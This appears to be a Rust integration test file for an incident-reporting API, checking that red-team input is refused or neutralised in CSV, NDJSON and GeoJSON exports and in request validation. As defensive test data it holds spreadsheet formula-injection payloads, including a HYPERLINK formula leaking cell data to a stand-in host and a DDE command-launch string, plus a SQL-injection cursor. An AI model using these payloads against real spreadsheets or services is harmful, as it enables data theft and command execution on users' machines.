//! Hostile input, as a red team sends it: formulas for the analyst's spreadsheet,
//! NUL characters, years no calendar of ours has, forged cursors, the bbox the
//! document describes. Each is refused the same on both backends, names what it
//! refuses, and writes nothing.

use awc::http::Method;
use basewatch::domain::Role;
use serde_json::{Value, json};

use crate::helpers::{Backend, Response, TestApp, TestUser};
use crate::incidents::{World, create, report, world};

crate::scenarios![
    formula_payloads_reach_every_csv_as_text_and_json_raw,
    nul_in_any_body_is_422_naming_the_field_and_writes_nothing,
    nul_in_any_query_value_is_400_naming_the_parameter,
    times_outside_1945_to_2100_are_400_naming_the_parameter,
    forged_out_of_range_and_empty_cursors_are_400,
    the_bbox_the_document_describes_is_the_bbox_the_server_takes,
];

/// The seven payloads of the red-team run: each makes a spreadsheet run a formula.
const PAYLOADS: [&str; 7] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
];
const MISSION_NAME: &str = "=HYPERLINK(\"http://evil.example\",\"MINUSTAH\")";
const BASE_NAME: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

/// Sends `body` as it is (a NUL, a lone surrogate) with the caller's token.
async fn send(
    app: &TestApp,
    method: Method,
    path: &str,
    user: Option<&TestUser>,
    if_match: Option<&str>,
    body: &str,
) -> Response {
    let auth = user.map(|u| format!("Bearer {}", u.token));
    let mut headers = vec![("content-type", "application/json")];
    if let Some(auth) = &auth {
        headers.push(("authorization", auth.as_str()));
    }
    if let Some(tag) = if_match {
        headers.push(("if-match", tag));
    }
    app.raw(method, path, &headers, body.as_bytes().to_vec())
        .await
}

/// Asserts a problem of this status whose detail (or, for 422, whose one
/// field error) names `name`; returns the problem.
#[track_caller]
fn refused(res: &Response, status: u16, name: &str) -> Value {
    let problem = res.expect(status);
    if status == 422 {
        let errors = problem["errors"].as_array().expect("field errors");
        assert_eq!(errors.len(), 1, "{problem}");
        assert_eq!(errors[0]["field"], name, "{problem}");
    } else {
        assert!(
            problem["detail"].as_str().unwrap().contains(name),
            "{name} in {problem}"
        );
    }
    problem
}

/// Method, path, caller, If-Match, raw body, the field the 422 must name.
type BodyCase<'a> = (
    Method,
    String,
    Option<&'a TestUser>,
    Option<&'a str>,
    String,
    &'a str,
);

/// The row counts a refused request must leave as they were.
fn written(app: &TestApp) -> Vec<i64> {
    [
        "incidents",
        "incident_events",
        "missions",
        "bases",
        "users",
        "audit_log",
    ]
    .iter()
    .map(|t| app.count(t))
    .collect()
}

/// How many exports the audit log holds, once `expected` are there or a second
/// has passed (an export is audited when its stream ends).
async fn exports_audited(app: &TestApp, expected: i64) -> i64 {
    let count = || app.count("audit_log WHERE action = 'incidents.exported'");
    for _ in 0..50 {
        if count() >= expected {
            break;
        }
        actix_web::rt::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    // A moment more, so that an export audited late would be seen.
    actix_web::rt::time::sleep(std::time::Duration::from_millis(50)).await;
    count()
}

fn csv_rows(body: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

async fn export(app: &TestApp, user: &TestUser, query: &str) -> Response {
    let res = app
        .get(
            &format!("/api/v1/exports/incidents?{query}"),
            Some(&user.token),
        )
        .await;
    assert_eq!(res.status, 200, "{}", String::from_utf8_lossy(&res.body));
    res
}

async fn formula_payloads_reach_every_csv_as_text_and_json_raw(backend: Backend) {
    let World { app, admin, .. } = world(backend).await;
    // An admin names a mission and a base with payloads.
    let mission = app
        .post(
            "/api/v1/missions",
            Some(&admin.token),
            &json!({"name": MISSION_NAME, "country": "HT", "mandate_start": "2004-06-01"}),
        )
        .await
        .expect(201)["id"]
        .as_str()
        .unwrap()
        .to_owned();
    app.post(
        &format!("/api/v1/missions/{mission}/bases"),
        Some(&admin.token),
        &json!({"name": BASE_NAME, "latitude": 18.54, "longitude": -72.34}),
    )
    .await
    .expect(201);
    // A partner plants the first payload in its own incident's narrative; a
    // monitor the others.
    let ngo = app
        .post(
            "/api/v1/organisations",
            Some(&admin.token),
            &json!({"name": "Planting NGO", "kind": "ngo"}),
        )
        .await
        .expect(201)["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let partner = app.seed_user_in(Role::Partner, &ngo);
    let monitor = app.seed_user(Role::Monitor);
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let mut body = report(&mission);
        body["latitude"] = json!(18.55);
        body["longitude"] = json!(-72.34);
        body["narrative"] = json!(payload);
        body["submit"] = json!(true);
        let reporter = if i == 0 { &partner } else { &monitor };
        let stored = create(&app, reporter, &body).await.expect(201);
        assert_eq!(stored["narrative"], *payload, "stored as sent");
    }
    let analyst = app.seed_user(Role::Analyst);

    for (query, names, data_from) in [
        (
            "format=csv",
            [
                "narrative",
                "mission_name",
                "base_name",
                "longitude",
                "latitude",
                "victims",
            ],
            1,
        ),
        (
            "format=csv&hxl=true",
            [
                "narrative",
                "mission_name",
                "base_name",
                "longitude",
                "latitude",
                "victims",
            ],
            2,
        ),
        (
            "format=csv&schema=htcds",
            [
                "caseNarrative",
                "missionName",
                "nearestBaseName",
                "longitude",
                "latitude",
                "vic_Count",
            ],
            1,
        ),
    ] {
        let res = export(&app, &analyst, query).await;
        let rows = csv_rows(&res.body);
        assert_eq!(rows.len(), data_from + PAYLOADS.len(), "{query}");
        let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
        let [narrative, mission_name, base_name, lon, lat, victims] = names.map(col);
        let mut narratives: Vec<&str> = rows[data_from..]
            .iter()
            .map(|r| r[narrative].as_str())
            .collect();
        narratives.sort_unstable();
        let mut expected: Vec<String> = PAYLOADS.iter().map(|p| format!("'{p}")).collect();
        expected.sort_unstable();
        assert_eq!(narratives, expected, "{query}");
        for row in &rows[data_from..] {
            assert_eq!(row[mission_name], format!("'{MISSION_NAME}"), "{query}");
            assert_eq!(row[base_name], format!("'{BASE_NAME}"), "{query}");
            // Numbers stay numbers, the negative longitude included.
            assert_eq!(row[lon], "-72.34", "{query}");
            assert_eq!(row[lat], "18.55", "{query}");
            assert_eq!(row[victims], "3", "{query}");
        }
        // In the bytes: text quoted, numbers bare, so a spreadsheet that splits
        // on `;` or tabs cannot cut a narrative into a formula either.
        let text = String::from_utf8(res.body.clone()).unwrap();
        assert!(text.contains("\"'=1+1\""), "{query}");
        assert!(text.contains(",-72.34,"), "{query}");
    }

    // NDJSON and GeoJSON stay raw: the JSON string is the narrative as written.
    let lines: Vec<Value> = String::from_utf8(export(&app, &analyst, "format=ndjson").await.body)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), PAYLOADS.len());
    let mut raw: Vec<&str> = lines
        .iter()
        .map(|l| l["narrative"].as_str().unwrap())
        .collect();
    raw.sort_unstable();
    let mut expected = PAYLOADS.to_vec();
    expected.sort_unstable();
    assert_eq!(raw, expected);
    for line in &lines {
        assert_eq!(line["mission_name"], MISSION_NAME);
        assert_eq!(line["base_name"], BASE_NAME);
        assert_eq!(line["longitude"], -72.34);
    }
    let geo = export(&app, &analyst, "format=geojson").await.json();
    let features = geo["features"].as_array().unwrap();
    assert_eq!(features.len(), PAYLOADS.len());
    assert!(features.iter().all(|f| {
        f["geometry"]["coordinates"] == json!([-72.34, 18.55])
            && f["properties"]["base_name"] == BASE_NAME
            && PAYLOADS.contains(&f["properties"]["narrative"].as_str().unwrap())
    }));

    // The partner's own export (no narratives): the names are neutralised too.
    let rows = csv_rows(&export(&app, &partner, "format=csv").await.body);
    assert_eq!(rows.len(), 2);
    let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
    assert!(!rows[0].contains(&"narrative".to_owned()));
    assert_eq!(rows[1][col("mission_name")], format!("'{MISSION_NAME}"));
    assert_eq!(rows[1][col("base_name")], format!("'{BASE_NAME}"));
    assert_eq!(rows[1][col("longitude")], "-72.34");
}

async fn nul_in_any_body_is_422_naming_the_field_and_writes_nothing(backend: Backend) {
    let w = world(backend).await;
    let app = &w.app;
    let monitor = app.seed_user(Role::Monitor);
    let reviewer = app.seed_user(Role::Reviewer);
    let mut submitted = report(&w.mission);
    submitted["submit"] = json!(true);
    let incident = create(app, &monitor, &submitted).await.expect(201);
    let id = incident["id"].as_str().unwrap().to_owned();
    let mut draft = report(&w.mission);
    draft["submit"] = json!(false);
    let draft_id = create(app, &monitor, &draft).await.expect(201)["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let before = written(app);

    let email = format!(
        "{{\"email\": \"{}\\u0000\", \"password\": \"whatever it is\"}}",
        monitor.email
    );
    let with_nul = |mut body: Value, pointer: &str| {
        *body.pointer_mut(pointer).unwrap() = json!("before\u{0}after");
        body.to_string()
    };
    let transitions = format!("/api/v1/incidents/{id}/transitions");
    let assessment = format!("/api/v1/incidents/{id}/assessment");
    let bases = format!("/api/v1/missions/{}/bases", w.mission);
    let users = "/api/v1/users".to_owned();
    let cases: Vec<BodyCase> = vec![
        (
            Method::POST,
            "/api/v1/auth/login".into(),
            None,
            None,
            email,
            "email",
        ),
        (
            Method::POST,
            transitions.clone(),
            Some(&reviewer),
            Some("\"1\""),
            with_nul(json!({"to": "needs_info", "comment": ""}), "/comment"),
            "comment",
        ),
        (
            Method::PUT,
            assessment,
            Some(&reviewer),
            Some("\"1\""),
            with_nul(
                json!({"assessment": "undetermined", "reason": ""}),
                "/reason",
            ),
            "reason",
        ),
        (
            Method::POST,
            "/api/v1/incidents".into(),
            Some(&monitor),
            None,
            with_nul(report(&w.mission), "/narrative"),
            "narrative",
        ),
        (
            Method::POST,
            "/api/v1/incidents".into(),
            Some(&monitor),
            None,
            with_nul(report(&w.mission), "/victims/nationalities/1"),
            "victims.nationalities[1]",
        ),
        (
            Method::PATCH,
            format!("/api/v1/incidents/{draft_id}"),
            Some(&monitor),
            Some("\"1\""),
            with_nul(json!({"narrative": ""}), "/narrative"),
            "narrative",
        ),
        (
            Method::POST,
            "/api/v1/missions".into(),
            Some(&w.admin),
            None,
            with_nul(
                json!({"name": "", "country": "HT", "mandate_start": "2004-06-01"}),
                "/name",
            ),
            "name",
        ),
        (
            Method::POST,
            bases,
            Some(&w.admin),
            None,
            with_nul(
                json!({"name": "", "latitude": 18.5, "longitude": -72.3}),
                "/name",
            ),
            "name",
        ),
        (
            Method::POST,
            users,
            Some(&w.admin),
            None,
            with_nul(
                json!({"email": "", "name": "N", "role": "monitor", "organisation_id": app.org_id, "password": "a long enough password 123"}),
                "/email",
            ),
            "email",
        ),
        // A NUL in a key is named too, made visible.
        (
            Method::POST,
            transitions.clone(),
            Some(&reviewer),
            Some("\"1\""),
            "{\"to\": \"in_review\", \"com\\u0000ment\": \"x\"}".into(),
            "com\u{fffd}ment",
        ),
    ];
    assert_eq!(cases.len(), 10);
    for (method, path, user, if_match, body, field) in cases {
        let res = send(app, method.clone(), &path, user, if_match, &body).await;
        let problem = refused(&res, 422, field);
        assert_eq!(
            problem["errors"][0]["message"], "must not contain a NUL character (U+0000)",
            "{method} {path}"
        );
        assert_eq!(written(app), before, "{method} {path} wrote something");
    }
    // A lone surrogate is not JSON at all: 400, nothing written.
    for body in [
        r#"{"to": "needs_info", "comment": "\ud800"}"#,
        r#"{"to": "needs_info", "comment": "\udc00\ud800"}"#,
    ] {
        let res = send(
            app,
            Method::POST,
            &transitions,
            Some(&reviewer),
            Some("\"1\""),
            body,
        )
        .await;
        assert!(res.expect(400)["detail"].as_str().unwrap().contains("JSON"));
    }
    assert_eq!(written(app), before);
    let incident_now = app
        .get(&format!("/api/v1/incidents/{id}"), Some(&reviewer.token))
        .await
        .expect(200);
    assert_eq!(
        (
            incident_now["version"].as_i64(),
            incident_now["status"].as_str()
        ),
        (Some(1), Some("submitted"))
    );
    // The same moves without the NUL go through.
    send(
        app,
        Method::POST,
        &transitions,
        Some(&reviewer),
        Some("\"1\""),
        r#"{"to": "in_review", "comment": "taken"}"#,
    )
    .await
    .expect(200);
    app.login(&monitor.email, crate::helpers::PASSWORD)
        .await
        .expect(200);
}

async fn nul_in_any_query_value_is_400_naming_the_parameter(backend: Backend) {
    let w = world(backend).await;
    let app = &w.app;
    let analyst = app.seed_user(Role::Analyst);
    let monitor = app.seed_user(Role::Monitor);
    let mut body = report(&w.mission);
    body["submit"] = json!(true);
    create(app, &monitor, &body).await.expect(201);
    let before = written(app);
    let mission = &w.mission;
    for (user, path, name) in [
        (&w.admin, "/api/v1/audit?action=%00".to_owned(), "action"),
        (
            &w.admin,
            "/api/v1/audit?entity_type=incident%00x".into(),
            "entity_type",
        ),
        (
            &w.admin,
            "/api/v1/audit?limit=5&entity_id=%00".into(),
            "entity_id",
        ),
        (&w.admin, "/api/v1/users?role=monitor%00".into(), "role"),
        (&analyst, "/api/v1/incidents?bbox=1,2,3,4%00".into(), "bbox"),
        (&analyst, "/api/v1/incidents?cursor=%00".into(), "cursor"),
        (
            &analyst,
            "/api/v1/exports/incidents?format=csv&occurred_from=2024-01-01T00:00:00Z%00".into(),
            "occurred_from",
        ),
        (
            &analyst,
            "/api/v1/exports/incidents?format=csv%00".into(),
            "format",
        ),
        (
            &analyst,
            "/api/v1/stats/incidents?group_by=month%00".into(),
            "group_by",
        ),
        (
            &analyst,
            format!("/api/v1/analysis/deployment-effect?mission_id={mission}%00"),
            "mission_id",
        ),
        (
            &analyst,
            "/api/v1/organisations?cursor=%00".into(),
            "cursor",
        ),
        (&analyst, "/api/v1/incidents?a%00b=1".into(), "a\u{fffd}b"),
    ] {
        let problem = refused(
            &app.get(&path, Some(&user.token)).await,
            400,
            &format!("`{name}`"),
        );
        assert!(
            problem["detail"].as_str().unwrap().contains("NUL"),
            "{path}: {problem}"
        );
        assert_eq!(written(app), before, "{path} wrote something");
    }
    // The same filters without the NUL answer.
    assert_eq!(
        app.get(
            "/api/v1/audit?action=incident.created",
            Some(&w.admin.token)
        )
        .await
        .expect(200)["items"]
            .as_array()
            .unwrap()
            .len(),
        1
    );
}

async fn times_outside_1945_to_2100_are_400_naming_the_parameter(backend: Backend) {
    let w = world(backend).await;
    let app = &w.app;
    let analyst = app.seed_user(Role::Analyst);
    let monitor = app.seed_user(Role::Monitor);
    let mut body = report(&w.mission);
    body["submit"] = json!(true);
    create(app, &monitor, &body).await.expect(201);
    let before = written(app);
    let far = [
        "-5000-01-01T00:00:00Z",
        "-4714-11-24T00:00:00Z",
        "%2B10000-01-01T00:00:00Z",
        "%2B262142-12-31T23:59:59Z",
        "1944-12-31T23:59:59Z",
        "2101-01-01T00:00:00Z",
        "2100-12-31T23:30:00-01:00",
    ];
    let routes = [
        (&analyst, "/api/v1/incidents?", "occurred_from"),
        (&analyst, "/api/v1/incidents?", "occurred_to"),
        (
            &analyst,
            "/api/v1/exports/incidents?format=csv&",
            "occurred_from",
        ),
        (
            &analyst,
            "/api/v1/exports/incidents?format=ndjson&",
            "occurred_to",
        ),
        (
            &analyst,
            "/api/v1/exports/incidents?format=geojson&",
            "occurred_from",
        ),
        (&w.admin, "/api/v1/audit?", "from"),
        (&w.admin, "/api/v1/audit?", "to"),
    ];
    for (user, prefix, name) in routes {
        for time in far {
            let res = app
                .get(&format!("{prefix}{name}={time}"), Some(&user.token))
                .await;
            // Never 200 headers and then an aborted body: a problem, before anything streams.
            let problem = refused(&res, 400, name);
            assert!(
                problem["detail"]
                    .as_str()
                    .unwrap()
                    .contains("between 1945-01-01 and 2100-12-31"),
                "{prefix}{name}={time}: {problem}"
            );
        }
        // Not a time at all: the parameter is named as well.
        let res = app
            .get(
                &format!("{prefix}{name}=10000-01-01T00:00:00Z"),
                Some(&user.token),
            )
            .await;
        refused(&res, 400, &format!("`{name}`"));
        // The edges of the range are times like any other.
        for edge in ["1945-01-01T00:00:00Z", "2100-12-31T23:59:59Z"] {
            let res = app
                .get(&format!("{prefix}{name}={edge}"), Some(&user.token))
                .await;
            assert_eq!(res.status, 200, "{prefix}{name}={edge}");
        }
    }
    // No export was refused after it started: only the six at the edges ran.
    assert_eq!(exports_audited(app, 3 * 2).await, 3 * 2);
    assert_eq!(written(app)[..5], before[..5]);
}

async fn forged_out_of_range_and_empty_cursors_are_400(backend: Backend) {
    use base64::Engine;
    let w = world(backend).await;
    let app = &w.app;
    let monitor = app.seed_user(Role::Monitor);
    let analyst = app.seed_user(Role::Analyst);
    for day in 10..13 {
        let mut body = report(&w.mission);
        body["occurred_at"] = json!(format!("2024-03-{day}T10:00:00Z"));
        body["submit"] = json!(true);
        create(app, &monitor, &body).await.expect(201);
    }
    let page = app
        .get("/api/v1/incidents?limit=2", Some(&analyst.token))
        .await
        .expect(200);
    assert_eq!(page["items"].as_array().unwrap().len(), 2);
    let cursor = page["next_cursor"].as_str().unwrap().to_owned();
    let next = app
        .get(
            &format!("/api/v1/incidents?limit=2&cursor={cursor}"),
            Some(&analyst.token),
        )
        .await
        .expect(200);
    assert_eq!(next["items"].as_array().unwrap().len(), 1);
    assert_eq!(next["items"][0]["occurred_at"], "2024-03-10T10:00:00Z");

    let forge = |s: String| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
    let id = uuid::Uuid::new_v4();
    let forged = [
        String::new(),
        "x".into(),
        "%20".into(),
        "AAAA".into(),
        // Before 4713 BC, which PostgreSQL cannot even bind.
        forge(format!("-210000000000000000:{id}")),
        forge(format!("{}:{id}", i64::MIN)),
        forge(format!("{}:{id}", i64::MAX)),
        // Year 10000, and 1900: outside what Basewatch records.
        forge(format!("253402300800000000:{id}")),
        forge(format!("-2208988800000000:{id}")),
        forge("1710064800000000:' OR 1=1 --".into()),
        forge("1710064800000000".into()),
        "x".repeat(5000),
    ];
    for cursor in &forged {
        refused(
            &app.get(
                &format!("/api/v1/incidents?cursor={cursor}"),
                Some(&analyst.token),
            )
            .await,
            400,
            "cursor",
        );
    }
    for path in [
        "/api/v1/audit?cursor=",
        "/api/v1/organisations?cursor=",
        "/api/v1/users?cursor=",
    ] {
        refused(&app.get(path, Some(&w.admin.token)).await, 400, "cursor");
    }
}

async fn the_bbox_the_document_describes_is_the_bbox_the_server_takes(backend: Backend) {
    let w = world(backend).await;
    let app = &w.app;
    let analyst = app.seed_user(Role::Analyst);
    let monitor = app.seed_user(Role::Monitor);
    let mut body = report(&w.mission);
    body["submit"] = json!(true);
    create(app, &monitor, &body).await.expect(201);

    let doc = app.get("/api/v1/openapi.json", None).await.expect(200);
    let param = |path: &str, name: &str| {
        doc["paths"][path]["get"]["parameters"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == name)
            .unwrap_or_else(|| panic!("{path} documents {name}"))["schema"]
            .clone()
    };
    // Exports offer every status but draft; an empty cursor is not a cursor.
    let statuses = param("/api/v1/exports/incidents", "status")["enum"].clone();
    assert_eq!(
        statuses,
        json!([
            "submitted",
            "in_review",
            "verified",
            "unsubstantiated",
            "needs_info",
            "referred",
            "closed"
        ])
    );
    assert_eq!(param("/api/v1/incidents", "cursor")["minLength"], 1);
    for path in ["/api/v1/audit", "/api/v1/organisations", "/api/v1/missions"] {
        assert_eq!(param(path, "cursor")["minLength"], 1, "{path}");
    }
    let list = param("/api/v1/incidents", "bbox")["pattern"].clone();
    assert_eq!(param("/api/v1/exports/incidents", "bbox")["pattern"], list);
    let pattern = regex_lite::Regex::new(list.as_str().unwrap()).unwrap();

    let good = [
        "21.0,42.3,21.4,42.8",
        "21,42,22,43",
        "-180,-90,180,90",
        "179.5,-10,-179.5,10",
        "-72.5,18.4,-72.2,18.7",
    ];
    let bad = [
        "1\\x0,2,3,4",
        "21.0,42.3,21.4",
        "21.0,42.3,21.4,42.8,1",
        "181,0,0,0",
        "0,-91,0,0",
        "180.5,0,0,0",
        "1e1,0,0,0",
        "+21,42,22,43",
        " 21.0,42.3,21.4,42.8",
        "21.0,42.3,21.4,42.8 ",
        "21.,42.3,21.4,42.8",
        "NaN,0,0,0",
        "",
    ];
    for bbox in good {
        assert!(pattern.is_match(bbox), "{bbox} matches the document");
        for path in [
            "/api/v1/incidents?",
            "/api/v1/exports/incidents?format=ndjson&",
        ] {
            let url = format!("{path}bbox={}", bbox.replace('+', "%2B"));
            assert_eq!(
                app.get(&url, Some(&analyst.token)).await.status,
                200,
                "{url}"
            );
        }
    }
    for bbox in bad {
        assert!(
            !pattern.is_match(bbox),
            "{bbox:?} does not match the document"
        );
        let encoded = bbox
            .replace('+', "%2B")
            .replace(' ', "%20")
            .replace('\\', "%5C");
        for path in [
            "/api/v1/incidents?",
            "/api/v1/exports/incidents?format=csv&",
        ] {
            refused(
                &app.get(&format!("{path}bbox={encoded}"), Some(&analyst.token))
                    .await,
                400,
                "bbox",
            );
        }
    }
    // Matching the pattern is not enough when min_lat > max_lat: the description says so.
    assert!(pattern.is_match("21,43,22,42"));
    refused(
        &app.get("/api/v1/incidents?bbox=21,43,22,42", Some(&analyst.token))
            .await,
        400,
        "bbox",
    );
    // The README's box finds the Kosovo incident.
    let found = app
        .get(
            "/api/v1/incidents?bbox=21.0,42.3,21.4,42.8",
            Some(&analyst.token),
        )
        .await
        .expect(200);
    assert_eq!(found["items"].as_array().unwrap().len(), 1);
    // status=draft is refused on the export, as the document now says.
    refused(
        &app.get(
            "/api/v1/exports/incidents?format=csv&status=draft",
            Some(&analyst.token),
        )
        .await,
        400,
        "draft",
    );
    assert_eq!(exports_audited(app, 5).await, 5);
}
